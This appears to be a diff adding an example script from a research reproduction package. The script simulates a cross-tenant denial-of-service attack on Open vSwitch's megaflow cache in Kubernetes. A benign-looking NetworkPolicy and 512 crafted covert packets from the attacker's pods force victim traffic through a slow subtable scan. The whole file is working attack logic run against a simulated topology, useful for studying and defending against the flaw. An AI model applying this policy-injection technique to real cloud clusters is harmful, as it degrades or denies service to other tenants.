@@ -1,0 +1,76 @@
+#!/usr/bin/env python3
+"""The Kubernetes/OpenStack attack, end to end on the Fig. 1 topology.
+
+Storyline:
+  1. two servers, a victim tenant (alice) and the attacker (mallory),
+     each with pods on both servers;
+  2. mallory installs a *perfectly legitimate-looking* NetworkPolicy on
+     her own pod: allow one IP, allow one port — two whitelist entries
+     any auditor would approve;
+  3. mallory streams 512 crafted covert packets (real Ethernet frames)
+     from her pod on server1 to her pod on server2;
+  4. server2's megaflow cache now holds 512 masks, and *alice's* traffic
+     on server2 pays the sequential TSS scan.
+
+Run:  python examples/k8s_policy_injection.py
+"""
+
+from repro.attack import (
+    CovertStreamGenerator,
+    kubernetes_attack_policy,
+    predict,
+)
+from repro.cms import KubernetesCms
+from repro.net import Ethernet, IPv4, Tcp
+from repro.topo import two_server_topology
+
+network, pods = two_server_topology()
+
+# -- step 1: the malicious (but CMS-valid) policy ---------------------------
+
+policy, dimensions = kubernetes_attack_policy(allow_ip="10.0.0.10", allow_port=80)
+installed = network.attach_policy(KubernetesCms(), policy, "mallory-b")
+print(f"CMS accepted the policy; {installed} flow rules installed on server2")
+print("Attack prediction:", predict(dimensions).summary(), "\n")
+
+# -- step 2: the covert stream ----------------------------------------------
+
+generator = CovertStreamGenerator(
+    dimensions,
+    dst_ip=pods["mallory-b"].ip,
+    src_mac=str(pods["mallory-a"].mac),
+    dst_mac=str(pods["mallory-b"].mac),
+)
+dropped = 0
+for key in generator.keys():
+    outcome = network.send(generator.packet_for_key(key), from_pod="mallory-a")
+    dropped += not outcome.delivered
+server2 = network.nodes["server2"]
+print(f"covert packets sent: 512, dropped by the ACL (as intended): {dropped}")
+print(f"server2 megaflow masks: {server2.switch.mask_count}\n")
+
+# -- step 3: measure the cross-tenant damage --------------------------------
+
+
+def victim_scan_cost(sport: int) -> int:
+    packet = (
+        Ethernet(src=str(pods["victim-a"].mac), dst=str(pods["victim-b"].mac))
+        / IPv4(src=pods["victim-a"].ip, dst=pods["victim-b"].ip)
+        / Tcp(sport=sport, dport=5201)
+    )
+    result = network.send(packet, from_pod="victim-a")
+    assert result.delivered
+    return result.hops[-1].tuples_scanned
+
+
+print("alice's traffic still flows, but every cache-missing packet on the")
+print("attacked node now walks mallory's subtables:")
+for sport in (33000, 33001, 33002):
+    cost = victim_scan_cost(sport)
+    print(f"  new victim flow (sport={sport}): TSS scanned {cost} subtables")
+
+print(
+    "\nWith 512 masks the paper reports OVS at ~10% of peak; with Calico's\n"
+    "source-port surface (8192 masks) it is a full DoS — see\n"
+    "examples/calico_full_dos.py."
+)
